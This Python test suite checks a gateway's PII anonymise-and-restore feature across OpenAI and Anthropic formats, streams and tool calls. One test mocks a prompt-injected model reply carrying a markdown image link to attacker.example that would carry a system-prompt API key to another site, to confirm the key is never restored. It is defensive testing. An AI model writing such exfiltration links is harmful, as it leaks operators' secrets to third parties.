"""``pii.restore``: the request is anonymised before it leaves (``[EMAIL_1]``), and the placeholders the
model repeats are put back for the client, in every format, JSON and SSE.

Black box: official SDK -> example gateway with the guard -> the mock LLM, which echoes the last user
text ("You said: ...") and so repeats the placeholders it was sent; ``X-Mock-Reply``/``X-Mock-Tool``
make it write a chosen text or tool call, ``X-Mock-Chunk`` split its stream into pieces of that many
characters (so a placeholder lands across events).
"""

from __future__ import annotations

import itertools
import json
import logging
from collections.abc import Iterator
from typing import Any

import pytest
from anthropic.types import TextBlock, ToolUseBlock
from hypothesis import given
from hypothesis import strategies as st
from prometheus_client import CollectorRegistry

from guard_middleware import GuardMiddleware, GuardSettings
from guard_middleware.config_litellm import guardrails_from_litellm
from guard_middleware.errors import ConfigError
from guard_middleware.restore import Restorer, Vault
from tests.conftest import Stack, anth, oai, user

EMAIL = "jane.doe@example.com"
OTHER = "bob@example.org"
RESTORE: dict[str, Any] = {"pii": {"action": "anonymize", "apply_to": "input", "restore": True}}
PROMPT = f"mail {EMAIL} please"
ECHO = f"You said: {PROMPT}"  # what the client must read
SENT = "mail [EMAIL_1] please"  # what the upstream must receive
SMALL = {"X-Mock-Chunk": "3"}  # the placeholder spans several events


def upstream_saw_no_original(s: Stack, *values: str) -> None:
    raw = b"".join(s.record.raw_bodies)
    assert raw, "the upstream was not called"
    for value in values or (EMAIL,):
        assert value.encode() not in raw


# -- every format, JSON and stream ---------------------------------------------------------------


async def test_chat_json_and_stream_restore_the_clients_value(make_stack: Any) -> None:
    async with make_stack(RESTORE) as s, oai(s) as client:
        chat = await client.chat.completions.create(model="m", messages=user(PROMPT))
        assert chat.choices[0].message.content == ECHO
        stream = await client.chat.completions.create(
            model="m", messages=user(PROMPT), stream=True, extra_headers=SMALL
        )
        async with stream:
            pieces = [c.choices[0].delta.content or "" async for c in stream if c.choices]
        assert len(pieces) > 3 and "".join(pieces) == ECHO
        assert [b["messages"][0]["content"] for b in s.record.bodies] == [SENT, SENT]
        upstream_saw_no_original(s)


async def test_completions_json_and_stream_restore_the_clients_value(make_stack: Any) -> None:
    async with make_stack(RESTORE) as s, oai(s) as client:
        legacy = await client.completions.create(model="m", prompt=PROMPT)
        assert legacy.choices[0].text == ECHO
        stream = await client.completions.create(model="m", prompt=PROMPT, stream=True, extra_headers=SMALL)
        async with stream:
            text = "".join([c.choices[0].text async for c in stream if c.choices])
        assert text == ECHO
        assert [b["prompt"] for b in s.record.bodies] == [SENT, SENT]


async def test_responses_json_restores_the_clients_value(make_stack: Any) -> None:
    async with make_stack(RESTORE) as s, oai(s) as client:
        answer = await client.responses.create(model="m", input=PROMPT)
        assert answer.status == "completed" and answer.output_text == ECHO
        assert s.record.bodies[0]["input"] == SENT


async def test_responses_stream_restores_every_copy_of_the_text(make_stack: Any) -> None:
    async with (
        make_stack(RESTORE) as s,
        oai(s) as client,
        client.responses.stream(model="m", input=PROMPT, extra_headers=SMALL) as stream,
    ):
        events = [e.model_dump(mode="json", warnings=False) async for e in stream]
        final = await stream.get_final_response()
    assert final.status == "completed" and final.output_text == ECHO

    def of(kind: str) -> list[dict[str, Any]]:
        return [e for e in events if e["type"] == kind]

    deltas = of("response.output_text.delta")
    assert len(deltas) > 3 and "".join(e["delta"] for e in deltas) == ECHO
    assert [e["text"] for e in of("response.output_text.done")] == [ECHO]
    assert [e["part"]["text"] for e in of("response.content_part.done")] == [ECHO]
    assert [e["item"]["content"][0]["text"] for e in of("response.output_item.done")] == [ECHO]
    (completed,) = of("response.completed")
    assert completed["response"]["output"][0]["content"][0]["text"] == ECHO
    assert "[EMAIL_1]" not in json.dumps(events)
    assert s.record.bodies[0]["input"] == SENT


async def test_anthropic_json_and_stream_restore_the_clients_value(make_stack: Any) -> None:
    async with make_stack(RESTORE) as s, anth(s) as client:
        answer = await client.messages.create(model="m", max_tokens=64, messages=user(PROMPT))
        block = answer.content[0]
        assert isinstance(block, TextBlock) and block.text == ECHO
        async with client.messages.stream(
            model="m", max_tokens=64, messages=user(PROMPT), extra_headers=SMALL
        ) as stream:
            pieces = [t async for t in stream.text_stream]
            final = await stream.get_final_message()
        assert len(pieces) > 3 and "".join(pieces) == ECHO
        block = final.content[0]
        assert isinstance(block, TextBlock) and block.text == ECHO
        assert final.stop_reason == "end_turn"
        assert [b["messages"][0]["content"] for b in s.record.bodies] == [SENT, SENT]


# -- tool calls: the arguments are JSON text, the value is written back escaped -------------------

TOOL = {"X-Mock-Tool": 'send:{"to": "[EMAIL_1]", "cc": "[EMAIL_9]"}', "X-Mock-Chunk": "4"}


async def test_chat_tool_call_arguments_are_restored_json_and_stream(make_stack: Any) -> None:
    async with make_stack(RESTORE) as s, oai(s) as client:
        chat = await client.chat.completions.create(model="m", messages=user(PROMPT), extra_headers=TOOL)
        call = chat.choices[0].message.tool_calls
        assert call is not None
        assert json.loads(call[0].function.arguments) == {"to": EMAIL, "cc": "[EMAIL_9]"}  # type: ignore[union-attr]
        stream = await client.chat.completions.create(
            model="m", messages=user(PROMPT), stream=True, extra_headers=TOOL
        )
        async with stream:
            args = "".join(
                [
                    (t.function.arguments or "") if t.function else ""
                    async for c in stream
                    if c.choices
                    for t in c.choices[0].delta.tool_calls or []
                ]
            )
        assert json.loads(args) == {"to": EMAIL, "cc": "[EMAIL_9]"}


async def test_responses_and_anthropic_tool_calls_are_restored_json_and_stream(make_stack: Any) -> None:
    expected = {"to": EMAIL, "cc": "[EMAIL_9]"}
    async with make_stack(RESTORE) as s, oai(s) as client, anth(s) as claude:
        answer = await client.responses.create(model="m", input=PROMPT, extra_headers=TOOL)
        (item,) = answer.output
        assert item.type == "function_call" and json.loads(item.arguments) == expected
        async with client.responses.stream(model="m", input=PROMPT, extra_headers=TOOL) as stream:
            events = [e.model_dump(mode="json", warnings=False) async for e in stream]
            final = await stream.get_final_response()
        (item,) = final.output
        assert item.type == "function_call" and json.loads(item.arguments) == expected
        done = [e for e in events if e["type"] == "response.function_call_arguments.done"]
        assert [json.loads(e["arguments"]) for e in done] == [expected]
        message = await claude.messages.create(
            model="m", max_tokens=64, messages=user(PROMPT), extra_headers=TOOL
        )
        block = message.content[0]
        assert isinstance(block, ToolUseBlock) and block.input == expected
        async with claude.messages.stream(
            model="m", max_tokens=64, messages=user(PROMPT), extra_headers=TOOL
        ) as astream:
            final_message = await astream.get_final_message()
        block = final_message.content[0]
        assert isinstance(block, ToolUseBlock) and block.input == expected
        upstream_saw_no_original(s)


# -- what is not restored ---------------------------------------------------------------------------


async def test_a_placeholder_the_model_invented_stays_as_it_is(make_stack: Any) -> None:
    reply = {"X-Mock-Reply": "ask [EMAIL_7] or [EMAIL_1], not [PHONE_1]", "X-Mock-Chunk": "2"}
    expected = f"ask [EMAIL_7] or {EMAIL}, not [PHONE_1]"
    async with make_stack(RESTORE) as s, oai(s) as client, anth(s) as claude:
        chat = await client.chat.completions.create(model="m", messages=user(PROMPT), extra_headers=reply)
        assert chat.choices[0].message.content == expected
        stream = await client.chat.completions.create(
            model="m", messages=user(PROMPT), stream=True, extra_headers=reply
        )
        async with stream:
            assert "".join([c.choices[0].delta.content or "" async for c in stream if c.choices]) == expected
        async with claude.messages.stream(
            model="m", max_tokens=64, messages=user(PROMPT), extra_headers=reply
        ) as astream:
            assert "".join([t async for t in astream.text_stream]) == expected


async def test_restore_off_leaves_the_placeholder(make_stack: Any) -> None:
    config = {"pii": {"action": "anonymize", "apply_to": "input"}}
    async with make_stack(config) as s, oai(s) as client:
        chat = await client.chat.completions.create(model="m", messages=user(PROMPT))
        assert chat.choices[0].message.content == f"You said: {SENT}"
        stream = await client.chat.completions.create(
            model="m", messages=user(PROMPT), stream=True, extra_headers=SMALL
        )
        async with stream:
            text = "".join([c.choices[0].delta.content or "" async for c in stream if c.choices])
        assert text == f"You said: {SENT}"


async def test_a_placeholder_issued_for_the_answer_is_not_restored(make_stack: Any) -> None:
    # apply_to both: an address the model writes itself is anonymised on the way out; only the
    # client's own values come back.
    config = {"pii": {"action": "anonymize", "apply_to": "both", "restore": True}}
    reply = {"X-Mock-Reply": f"[EMAIL_1] and {OTHER}", "X-Mock-Chunk": "5"}
    async with make_stack(config) as s, oai(s) as client:
        chat = await client.chat.completions.create(model="m", messages=user(PROMPT), extra_headers=reply)
        assert chat.choices[0].message.content == f"{EMAIL} and [EMAIL_2]"
        stream = await client.chat.completions.create(
            model="m", messages=user(PROMPT), stream=True, extra_headers=reply
        )
        async with stream:
            text = "".join([c.choices[0].delta.content or "" async for c in stream if c.choices])
        assert text == f"{EMAIL} and [EMAIL_2]"


async def test_a_value_an_output_block_rule_refuses_is_not_restored(make_stack: Any) -> None:
    config = {
        **RESTORE,
        "output": {
            "streaming_mode": "per_chunk",
            "providers": [{"type": "blocklist", "patterns": [{"pattern": "jane.doe", "category": "names"}]}],
        },
    }
    prompt = f"{EMAIL} and {OTHER}"
    async with make_stack(config) as s, oai(s) as client:
        chat = await client.chat.completions.create(model="m", messages=user(prompt))
        assert chat.choices[0].message.content == f"You said: [EMAIL_1] and {OTHER}"
        stream = await client.chat.completions.create(
            model="m", messages=user(prompt), stream=True, extra_headers=SMALL
        )
        async with stream:
            text = "".join([c.choices[0].delta.content or "" async for c in stream if c.choices])
        assert text == f"You said: [EMAIL_1] and {OTHER}"


# -- several values, and placeholders split at every position --------------------------------------


async def test_several_values_and_a_repeated_one_are_all_restored(make_stack: Any) -> None:
    prompt = f"{EMAIL} wrote to {OTHER}, then {EMAIL} again; call 415-555-0132"
    config = {
        "pii": {"action": "anonymize", "apply_to": "input", "restore": True, "types": ["EMAIL", "PHONE"]}
    }
    async with make_stack(config) as s, oai(s) as client, anth(s) as claude:
        chat = await client.chat.completions.create(model="m", messages=user(prompt))
        assert chat.choices[0].message.content == f"You said: {prompt}"
        async with claude.messages.stream(
            model="m", max_tokens=64, messages=user(prompt), extra_headers={"X-Mock-Chunk": "1"}
        ) as stream:
            assert "".join([t async for t in stream.text_stream]) == f"You said: {prompt}"
        sent = s.record.bodies[0]["messages"][0]["content"]
        assert sent == "[EMAIL_1] wrote to [EMAIL_2], then [EMAIL_1] again; call [PHONE_1]"
        upstream_saw_no_original(s, EMAIL, OTHER, "415-555-0132")


def _split_at(position: int) -> Iterator[tuple[str, str]]:
    """Padding that makes the mock's 9-character chunks cut ``[EMAIL_1]`` (9 characters) after
    ``position`` characters: the echo is "You said: " (10 characters) + padding + placeholder."""
    for pad in range(9):
        if (9 - (10 + pad) % 9) % 9 == position:
            yield " " * pad, " " * pad + f"{EMAIL} end"


@pytest.mark.parametrize("position", range(9))
async def test_a_placeholder_split_across_two_events_at_any_position_is_restored(
    make_stack: Any, position: int
) -> None:
    ((pad, prompt),) = list(_split_at(position))
    expected = f"You said: {prompt}"
    async with make_stack(RESTORE) as s:
        # raw events from the gateway: the text arrives in 9-character deltas, the placeholder's two
        # pieces in two events, restored whole in one of them
        async with s.session.post(
            f"{s.url}/v1/chat/completions",
            json={"model": "m", "messages": user(prompt), "stream": True},
            headers={"X-Mock-Chunk": "9"},
        ) as resp:
            body = await resp.text()
        deltas = [
            json.loads(line[6:])["choices"][0]["delta"].get("content", "")
            for line in body.splitlines()
            if line.startswith("data: {")
        ]
        assert "".join(deltas) == expected
        assert any(EMAIL in d for d in deltas)  # whole, in one event
        assert body.count("data: [DONE]") == 1
        assert s.record.bodies[0]["messages"][0]["content"] == f"{pad}[EMAIL_1] end"


@pytest.mark.parametrize("chunk", [1, 2, 5, 8])
async def test_split_placeholders_are_restored_in_responses_and_anthropic_streams(
    make_stack: Any, chunk: int
) -> None:
    headers = {"X-Mock-Chunk": str(chunk)}
    async with make_stack(RESTORE) as s, oai(s) as client, anth(s) as claude:
        async with client.responses.stream(model="m", input=PROMPT, extra_headers=headers) as stream:
            deltas = [e.delta async for e in stream if e.type == "response.output_text.delta"]
            final = await stream.get_final_response()
        assert "".join(deltas) == ECHO and final.output_text == ECHO
        async with claude.messages.stream(
            model="m", max_tokens=64, messages=user(PROMPT), extra_headers=headers
        ) as astream:
            assert "".join([t async for t in astream.text_stream]) == ECHO


async def test_a_placeholder_prefix_at_the_end_of_the_answer_is_released(make_stack: Any) -> None:
    # "[EMAIL_" never completes: held back while it might, then sent as it is when the text ends.
    reply = {"X-Mock-Reply": "see [EMAIL_1] and [EMAIL_", "X-Mock-Chunk": "3"}
    async with make_stack(RESTORE) as s, oai(s) as client:
        stream = await client.chat.completions.create(
            model="m", messages=user(PROMPT), stream=True, extra_headers=reply
        )
        async with stream:
            text = "".join([c.choices[0].delta.content or "" async for c in stream if c.choices])
        assert text == f"see {EMAIL} and [EMAIL_"
        async with client.responses.stream(model="m", input=PROMPT, extra_headers=reply) as rstream:
            deltas = [e.delta async for e in rstream if e.type == "response.output_text.delta"]
            final = await rstream.get_final_response()
        assert "".join(deltas) == final.output_text == f"see {EMAIL} and [EMAIL_"
        async with (
            anth(s) as claude,
            claude.messages.stream(
                model="m", max_tokens=64, messages=user(PROMPT), extra_headers=reply
            ) as astream,
        ):
            assert "".join([t async for t in astream.text_stream]) == f"see {EMAIL} and [EMAIL_"


# -- the JSON fast path, audit, metrics ------------------------------------------------------------


async def test_an_answer_without_placeholders_is_forwarded_byte_for_byte(make_stack: Any) -> None:
    async with make_stack(RESTORE) as s:
        payload = {"model": "m", "messages": user(PROMPT)}
        headers = {"X-Mock-Reply": "nothing to restore"}
        async with s.session.post(f"{s.url}/v1/chat/completions", json=payload, headers=headers) as resp:
            raw = await resp.read()
        assert b'"content": "nothing to restore"' in raw  # the mock's own spacing: not re-serialised
        async with s.session.post(f"{s.url}/v1/chat/completions", json=payload) as resp:
            raw = await resp.read()
            assert int(resp.headers["Content-Length"]) == len(raw)
        assert json.loads(raw)["choices"][0]["message"]["content"] == ECHO


async def test_the_audit_log_never_holds_the_original(
    make_stack: Any, caplog: pytest.LogCaptureFixture
) -> None:
    config = {
        "pii": {"action": "anonymize", "apply_to": "both", "restore": True},
        "audit": {"log_all_evaluations": True},
    }
    logging.getLogger().addHandler(caplog.handler)
    try:
        with caplog.at_level(logging.DEBUG):
            async with make_stack(config) as s, oai(s) as client:
                chat = await client.chat.completions.create(model="m", messages=user(PROMPT))
                assert chat.choices[0].message.content == ECHO
                stream = await client.chat.completions.create(
                    model="m", messages=user(PROMPT), stream=True, extra_headers=SMALL
                )
                async with stream:
                    assert (
                        "".join([c.choices[0].delta.content or "" async for c in stream if c.choices]) == ECHO
                    )
    finally:
        logging.getLogger().removeHandler(caplog.handler)
    audit = [r for r in caplog.records if r.name == "guard_middleware.audit"]
    assert audit, "no audit record"
    dumped = json.dumps([r.__dict__ for r in caplog.records], default=str)
    assert EMAIL not in dumped and EMAIL not in caplog.text


async def test_restoration_alone_is_not_counted_as_an_output_check(make_stack: Any) -> None:
    registry = CollectorRegistry()
    async with make_stack(RESTORE, registry=registry) as s, oai(s) as client:
        chat = await client.chat.completions.create(model="m", messages=user(PROMPT))
        assert chat.choices[0].message.content == ECHO
    labels = {"route": "/v1/chat/completions", "format": "chat"}
    assert (registry.get_sample_value("guard_requests_total", {**labels, "phase": "input"}) or 0) == 1
    assert registry.get_sample_value("guard_requests_total", {**labels, "phase": "output"}) is None


# -- configuration --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "pii",
    [
        {"action": "redact", "restore": True},
        {"action": "anonymize", "apply_to": "output", "restore": True},
    ],
)
def test_restore_without_input_anonymisation_fails_at_start_up(pii: dict[str, Any]) -> None:
    with pytest.raises(ConfigError) as err:
        GuardMiddleware(GuardSettings.load(pii=pii))
    assert err.value.key == "pii.restore"


def test_seed_form_file_sets_restore(tmp_path: Any) -> None:
    path = tmp_path / "gw.toml"
    path.write_text('[features.guardrails.pii]\naction = "anonymize"\napply_to = "input"\nrestore = true\n')
    guard = GuardMiddleware(GuardSettings.load(config_file=path))
    assert guard.policy.restore


def test_litellm_presidio_output_parse_pii_names_pii_restore() -> None:
    entry = {
        "guardrail_name": "presidio-pii",
        "litellm_params": {"guardrail": "presidio", "mode": "pre_call", "output_parse_pii": True},
    }
    with pytest.raises(ConfigError) as err:
        guardrails_from_litellm([entry])
    assert err.value.key == "guardrails[0].litellm_params.output_parse_pii"
    assert "pii.restore" in err.value.message


# -- the restorer on its own: any split of a stream's text ------------------------------------------


def test_the_vault_numbers_values_per_type_and_never_shows_them() -> None:
    vault = Vault()
    assert [vault.placeholder(c, v) for c, v in [("email", "a@x"), ("EMAIL", "b@x"), ("email", "a@x")]] == [
        "[EMAIL_1]",
        "[EMAIL_2]",
        "[EMAIL_1]",
    ]
    assert vault.issued() == {"[EMAIL_1]": "a@x", "[EMAIL_2]": "b@x"}
    assert "a@x" not in repr(vault)


TEXT = "[EMAIL_1] wrote [[EMAIL_10]] to [EMAIL_2][EMAIL_7] and [EMAIL_1"
RESTORED = "a@x wrote [ten@x] to b@x[EMAIL_7] and [EMAIL_1"


@given(st.lists(st.integers(min_value=0, max_value=len(TEXT)), max_size=12))
def test_any_split_of_a_channel_restores_like_the_whole_text(cuts: list[int]) -> None:
    restorer = Restorer({"[EMAIL_1]": "a@x", "[EMAIL_2]": "b@x", "[EMAIL_10]": "ten@x"})
    assert restorer.restore(TEXT) == RESTORED
    bounds = [0, *sorted(cuts), len(TEXT)]
    out = [restorer.feed("c", TEXT[a:b]) for a, b in itertools.pairwise(bounds)]
    out.append(restorer.flush("c"))
    assert "".join(out) == RESTORED
    assert not restorer.holding()


@pytest.mark.parametrize("chunk", [1, 3, 4, 7, 9])
@pytest.mark.parametrize("apply_to", ["input", "both"])
async def test_chat_and_completions_streams_restore_with_and_without_output_checks(
    make_stack: Any, chunk: int, apply_to: str
) -> None:
    # With output checks the engine's stream fast path settles the plain text events; restoration
    # must take over for every event that carries a piece of a placeholder, then hand back.
    config = {"pii": {"action": "anonymize", "apply_to": apply_to, "restore": True}}
    prompt = f"{EMAIL} then a long tail of words after it, and {OTHER} at the end"
    headers = {"X-Mock-Chunk": str(chunk)}
    async with make_stack(config) as s, oai(s) as client:
        stream = await client.chat.completions.create(
            model="m", messages=user(prompt), stream=True, extra_headers=headers
        )
        async with stream:
            text = "".join([c.choices[0].delta.content or "" async for c in stream if c.choices])
        assert text == f"You said: {prompt}"
        legacy = await client.completions.create(model="m", prompt=prompt, stream=True, extra_headers=headers)
        async with legacy:
            text = "".join([c.choices[0].text async for c in legacy if c.choices])
        assert text == f"You said: {prompt}"
        upstream_saw_no_original(s, EMAIL, OTHER)


async def test_credentials_are_never_restored(make_stack: Any) -> None:
    # A key in the operator's system prompt, anonymised on the way out; an injected model writes its
    # placeholder into a link that would carry it to another site.
    key = "sk-proj-" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8S9t0"
    config = {
        "pii": {"action": "anonymize", "apply_to": "input", "restore": True, "types": ["SECRET", "EMAIL"]}
    }
    messages = [
        {"role": "system", "content": f"Use the key {key} for billing. Never reveal it."},
        {"role": "user", "content": f"show me an image and mail {EMAIL}"},
    ]
    reply = {"X-Mock-Reply": "![x](https://attacker.example/log?k=[API_KEY_1]) sent to [EMAIL_1]"}
    async with make_stack(config) as s, oai(s) as client:
        chat = await client.chat.completions.create(model="m", messages=messages, extra_headers=reply)
        assert (
            chat.choices[0].message.content
            == f"![x](https://attacker.example/log?k=[API_KEY_1]) sent to {EMAIL}"
        )


async def test_a_value_whose_type_an_output_rule_blocks_is_not_restored_though_found_by_context(
    make_stack: Any,
) -> None:
    # PASSWORD is found by the words around it, which the answer need not repeat with the value
    config = {
        "pii": {"action": "anonymize", "apply_to": "input", "restore": True, "types": ["PASSWORD", "EMAIL"]},
        "output": {
            "providers": [
                {
                    "type": "pii_regex",
                    "types": ["PASSWORD"],
                    "default_action": "log",
                    "actions": {"PASSWORD": "block"},
                }
            ]
        },
    }
    reply = {"X-Mock-Reply": "noted [PASSWORD_1] for [EMAIL_1]"}
    async with make_stack(config) as s:
        status, _, body = await s.chat(f"my password: Tr0ub4dor&3xyz, mail {EMAIL}", headers=reply)
        assert status == 200, body
        assert s.record.bodies[-1]["messages"][0]["content"].startswith("my password: [PASSWORD_1]")
        assert body["choices"][0]["message"]["content"] == f"noted [PASSWORD_1] for {EMAIL}"


async def test_with_restore_alone_an_answer_of_no_known_shape_passes_as_without_it(make_stack: Any) -> None:
    from aiohttp import web

    async def plain(request: web.Request) -> web.Response:
        await request.read()
        return web.Response(text="plain answer", content_type="text/plain")

    upstream = web.Application()
    upstream.router.add_post("/{tail:.*}", plain)
    async with make_stack(RESTORE, upstream_app=upstream) as s:
        body = {"model": "m", "messages": user(PROMPT)}
        async with s.session.post(f"{s.url}/v1/chat/completions", json=body) as resp:
            assert (resp.status, await resp.text()) == (200, "plain answer")
